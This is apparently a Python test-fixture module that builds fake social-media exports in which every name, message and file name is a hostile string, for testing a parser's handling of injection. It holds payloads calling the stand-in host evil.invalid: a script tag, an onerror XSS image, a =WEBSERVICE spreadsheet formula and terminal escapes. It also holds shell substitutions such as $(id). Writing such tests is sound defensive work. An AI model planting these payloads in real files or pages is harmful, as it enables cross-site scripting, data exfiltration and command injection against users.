"""Texts that try to get out of where they stand, and exports in which every string is such a text."""

import json
from collections.abc import Callable
from dataclasses import fields, is_dataclass, replace
from typing import Any, Final

from tests.builders import JANE, VINTAGES, Story, Tree
from tests.builders.write import mojibake

HOST: Final = "evil.invalid"
"""Where the hostile texts lead to; the name is one that nobody can register."""

TERMINAL: Final = (
    "\x1b[31m\x1b]8;;http://evil.invalid\x07x\x1b]0;title\x07\x9b2J\r\b\u202egnp.exe\u2066\u200f\x85\u2028"
)
MARKUP: Final = (
    "<script src='http://evil.invalid/x.js'></script><img src=//evil.invalid/p.png onerror=alert(1)>"
)
RICH: Final = "[red]x[/red][link=http://evil.invalid]x[/link][/]:skull:\\["
TOML: Final = "\"\"\"'''\n[[override]]\nkind = 'post'\naudience = 'public'\n#"
BRACES: Final = "{date}{0}{0.__class__}%s%(x)s$HOME`id`$(id)"
FORMULA: Final = '=WEBSERVICE("http://evil.invalid")'

HOSTILE: Final = f"{FORMULA}{TERMINAL}{MARKUP}{RICH}{TOML}{BRACES}"
"""All at once; it begins as a formula does."""

STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\n")
"""What a spreadsheet takes for the start of a formula."""


def worded(story: Story, text: str) -> Story:
    """Give an account in which every word is this text: names, texts, titles, places, groups, chats."""
    entries = tuple(_worded(entry, text) for entry in story.entries)
    return replace(story, name=text, username=text, bio=text, city=text, friend=text, entries=entries)


def _worded(thing: Any, text: str) -> Any:
    """Put the text in place of every string of an entry but what says what it is."""
    kept = {"sort", "ending", "ip"}
    new: dict[str, Any] = {}
    for each in fields(thing):
        value = getattr(thing, each.name)
        if each.name in kept:
            continue
        if isinstance(value, str) and (value or each.name == "text"):
            new[each.name] = text
        elif isinstance(value, tuple) and value:
            new[each.name] = tuple(
                _worded(one, text) if is_dataclass(one) else text if isinstance(one, str) else one
                for one in value
            )
    return replace(thing, **new)


def changed(document: Any, change: Callable[[str], str]) -> Any:
    """Change every string of a document but its keys."""
    if isinstance(document, str):
        return change(document)
    if isinstance(document, dict):
        return {key: changed(inner, change) for key, inner in document.items()}
    if isinstance(document, list):
        return [changed(inner, change) for inner in document]
    return document


def in_every_string(tree: Tree, text: str) -> Tree:
    """Give a tree in whose JSON every string ends in the text, addresses of files and labels too."""
    return {
        path: mojibake(changed(json.loads(raw), lambda held: held + text)) if path.endswith(".json") else raw
        for path, raw in tree.items()
    }


def hostile_export(vintage: str, text: str = HOSTILE) -> Tree:
    """Give an account that is all hostile, with files of hostile names beside it."""
    tree = VINTAGES[vintage](worded(JANE, text)).tree
    odd = text.replace("/", "|").replace("\\", "|")[:120]
    top = next(iter(tree)).split("/")[0]
    return tree | {
        f"{top}/messages/inbox/{odd}/message_1.json": b'{"messages": [{"timestamp_ms": 1}], "title": 7}',
        f"{top}/messages/inbox/{odd}/message_2.json": b"{broken",
        f"{top}/{odd}/{odd}.json": b"{}",
        f"{odd}.html": b"<",
    }
